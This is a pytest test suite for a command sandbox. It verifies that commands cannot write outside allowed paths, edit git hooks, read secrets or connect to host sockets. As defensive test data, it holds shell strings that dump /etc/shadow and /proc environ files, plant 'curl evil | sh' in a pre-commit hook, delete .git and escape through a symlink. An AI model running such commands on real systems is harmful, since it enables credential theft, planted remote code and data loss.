"""Containment of the file system: no write outside the profile, no secret read, no socket.

The guard is bypassed (sh, touch, python3 run freely): only the sandbox stands in the way.
Every write test also checks the host afterwards — "denied" must mean nothing changed on disk.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
from pathlib import Path

import pytest

from tests.security.sandbox.helpers import PY3, SH, run, sandbox_factory, snapshot, workspace

__all__ = ["sandbox_factory", "workspace"]  # fixtures used by name below

TEST_UID = 4242  # no passwd entry needed: a workspace owned by it runs as it (rule 2)

ATTEMPT = """
try_write() { if sh -c "$2" 2>/dev/null; then echo "WROTE $1"; else echo "DENIED $1"; fi; }
try_write root 'echo x > /parism-x'
try_write etc 'echo x > /etc/parism-x'
try_write usr 'echo x > /usr/parism-x'
try_write home 'mkdir -p "$0" && echo x > "$0/parism-x"'
try_write project_new 'echo x > new-file'
try_write project_edit 'echo x >> README'
try_write project_rm 'rm README'
try_write symlink 'echo x > out-link/escaped'
"""


def _attempts(out: str) -> dict[str, str]:
    return {line.split()[1]: line.split()[0] for line in out.splitlines() if line.startswith(("WROTE", "DENIED"))}


@pytest.fixture
def outside() -> Path:
    """A host directory outside every allowed path, world-writable: only the sandbox protects it."""
    path = Path(tempfile.mkdtemp(prefix="parism-sbx-outside-", dir="/tmp"))
    path.chmod(0o777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


def test_readonly_profile_writes_nothing(sandbox_factory, workspace: Path, outside: Path) -> None:
    (workspace / "out-link").symlink_to(outside)
    before = snapshot(workspace)
    sb = sandbox_factory([str(workspace)])
    home = os.path.expanduser("~")
    r = run(sb, [SH, "-c", ATTEMPT, home], str(workspace))
    got = _attempts(r.out)
    assert got == {k: "DENIED" for k in ("root", "etc", "usr", "home", "project_new", "project_edit",
                                          "project_rm", "symlink")}, r.out + r.err
    assert snapshot(workspace) == before
    assert list(outside.iterdir()) == []
    for host_path in ("/parism-x", "/etc/parism-x", "/usr/parism-x", os.path.join(home, "parism-x")):
        assert not os.path.exists(host_path)


def _git_workspace(root: Path) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    subprocess.run(["chown", "-R", f"{TEST_UID}:{TEST_UID}", str(root)], check=True)


GIT_ATTEMPTS = """
try_write() { if sh -c "$1" 2>/dev/null; then echo "WROTE $2"; else echo "DENIED $2"; fi; }
try_write 'echo built > build-output.txt' build_output
try_write 'echo "curl evil | sh" > .git/hooks/pre-commit' hook_edit
try_write 'echo "#!/bin/sh" > .git/hooks/post-checkout' hook_new
try_write 'echo "[core] hooksPath = /tmp" >> .git/config' git_config
try_write 'mv .git .gitx' mv_git
try_write 'rm -rf .git' rm_git
try_write 'echo x > out-link/escaped' symlink
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give the workspace to another uid")
def test_build_profile_writes_project_but_not_git(sandbox_factory, workspace: Path, outside: Path) -> None:
    _git_workspace(workspace)
    (workspace / "out-link").symlink_to(outside)
    git_before = snapshot(workspace / ".git")
    sb = sandbox_factory([str(workspace)], writable=True)
    r = run(sb, [SH, "-c", GIT_ATTEMPTS], str(workspace))
    got = _attempts(r.out)
    assert got == {"build_output": "WROTE", "hook_edit": "DENIED", "hook_new": "DENIED",
                   "git_config": "DENIED", "mv_git": "DENIED", "rm_git": "DENIED",
                   "symlink": "DENIED"}, r.out + r.err
    assert (workspace / "build-output.txt").read_text() == "built\n"
    assert snapshot(workspace / ".git") == git_before
    assert not (workspace / ".gitx").exists()
    assert list(outside.iterdir()) == []


SECRET_READS = """
for p in /etc/shadow /etc/gshadow "/proc/$1/environ" /proc/1/environ; do
  if cat "$p" >/dev/null 2>&1; then echo "READABLE $p"; fi
done
for d in /root /home; do
  if ls "$d" >/dev/null 2>&1; then echo "READABLE $d"; fi
done
cat /etc/shadow /etc/gshadow 2>/dev/null | head -c 300
env
for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | tr '\\0' '\\n'; done
"""


def _secret_env(monkeypatch: pytest.MonkeyPatch) -> str:
    value = "parism-secret-" + os.urandom(6).hex()
    monkeypatch.setenv("PARISM_TEST_SERVER_SECRET", value)
    return value


def test_server_secrets_are_invisible(sandbox_factory, workspace: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = _secret_env(monkeypatch)
    sb = sandbox_factory([str(workspace)])
    r = run(sb, [SH, "-c", SECRET_READS, str(os.getpid())], str(workspace))
    assert secret not in r.out + r.err
    assert "root:" not in r.out
    readable = [line for line in r.out.splitlines() if line.startswith("READABLE")]
    # bwrap's own PID 1 is there, but spawned with a scrubbed environment
    assert all(line == "READABLE /proc/1/environ" for line in readable), r.out


@pytest.mark.skipif(os.geteuid() != 0, reason="rule root_masked only exists for a root server")
def test_root_masked_rule_hides_root_only_files(sandbox_factory, monkeypatch: pytest.MonkeyPatch) -> None:
    """A workspace nobody else may enter: the command stays uid 0 without capabilities, and
    the root-only files are masked (without the mask /etc/shadow would be readable)."""
    secret = _secret_env(monkeypatch)
    private = Path(tempfile.mkdtemp(prefix="parism-sbx-private-", dir="/tmp"))  # 0700 root
    try:
        sb = sandbox_factory([str(private)])
        assert sb.identity_for(str(private)).rule == "root_masked"
        r = run(sb, [SH, "-c", SECRET_READS + "\ngrep Cap /proc/self/status",
                     str(os.getpid())], str(private))
        assert secret not in r.out + r.err
        assert "root:" not in r.out
        caps = {line.split(":")[0]: line.split()[1] for line in r.out.splitlines() if line.startswith("Cap")}
        assert caps and set(caps.values()) == {"0000000000000000"}, caps
    finally:
        shutil.rmtree(private, ignore_errors=True)


def test_host_unix_socket_is_unreachable(sandbox_factory, workspace: Path) -> None:
    """A listening socket inside the (bound, read-only) project: connect() would work through
    a read-only bind, so the seccomp filter must stop it; one in host /tmp is not even there."""
    inside = workspace / "agent.sock"
    hidden_dir = Path(tempfile.mkdtemp(prefix="parism-sbx-sock-", dir="/tmp"))
    hidden_dir.chmod(0o755)
    servers = []
    try:
        for path in (inside, hidden_dir / "s"):
            srv = socket.socket(socket.AF_UNIX)
            srv.bind(str(path))
            path.chmod(0o777)
            srv.listen()
            servers.append(srv)
        code = ("import socket,sys\nfor p in sys.argv[1:]:\n    try:\n        s=socket.socket(socket.AF_UNIX)\n"
                "        s.connect(p); print('CONNECTED', p)\n    except OSError as e: print('REFUSED', p, e.errno)")
        sb = sandbox_factory([str(workspace)])
        r = run(sb, [PY3, "-c", code, str(inside), str(hidden_dir / "s")], str(workspace))
        assert "CONNECTED" not in r.out
        assert r.out.count("REFUSED") == 2, r.out + r.err
    finally:
        for srv in servers:
            srv.close()
        shutil.rmtree(hidden_dir, ignore_errors=True)


@pytest.mark.skipif(os.geteuid() != 0, reason="a non-root server runs commands as itself: its own 0700 dir is readable")
def test_allowed_path_the_command_user_cannot_read_is_left_out(sandbox_factory, workspace: Path) -> None:
    """A root-only allowed path is not even mounted for a command running as nobody (it could
    not read it anyway: the bind would only reveal that it exists)."""
    private = Path(tempfile.mkdtemp(prefix="parism-sbx-private-", dir="/tmp"))  # 0700
    (private / "secret.txt").write_text("root only\n")
    try:
        sb = sandbox_factory([str(workspace), str(private)])
        r = run(sb, [SH, "-c", f"id -u; cat README; cat {private}/secret.txt 2>&1; test -e {private} && echo PRESENT"],
                str(workspace))
        assert r.out.startswith("65534\nhello\n"), r.out + r.err
        assert "root only" not in r.out and "PRESENT" not in r.out
    finally:
        shutil.rmtree(private, ignore_errors=True)
